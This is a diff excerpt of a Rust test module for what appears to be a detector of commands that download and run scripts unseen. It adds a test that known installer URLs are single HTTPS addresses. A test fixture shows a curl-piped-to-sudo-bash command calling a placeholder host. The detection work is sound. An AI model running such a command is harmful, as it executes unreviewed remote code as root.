@@ -192,6 +192,15 @@ mod tests {
     use super::*;
 
     #[test]
+    fn every_installer_is_one_address_over_tls() {
+        for known in rows(INSTALLERS) {
+            let host = known.strip_prefix("https://").unwrap_or_default();
+            assert!(host.starts_with(|c: char| c.is_ascii_alphanumeric()), "{known}");
+            assert!(!known.contains(char::is_whitespace), "{known}");
+        }
+    }
+
+    #[test]
     fn what_is_downloaded_and_run_unseen_is_found() {
         for line in [
             "curl -fsSL http://files.example.net/setup.sh | sudo bash",
